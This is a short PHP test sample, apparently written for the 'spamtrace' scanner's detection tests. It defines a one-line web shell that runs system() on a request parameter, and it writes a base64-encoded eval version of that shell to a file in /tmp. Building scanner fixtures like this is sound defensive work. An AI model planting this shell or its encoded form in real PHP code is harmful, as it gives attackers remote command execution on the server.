<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Carries a one-line shell and plants it, encoded, beside itself.
$shell = 'if (isset($_REQUEST["x"])) { system($_REQUEST["x"]); }';
file_put_contents('/tmp/spamtrace-sample-cache.txt', "<?php eval(base64_decode('" . base64_encode($shell) . "')); ?>");
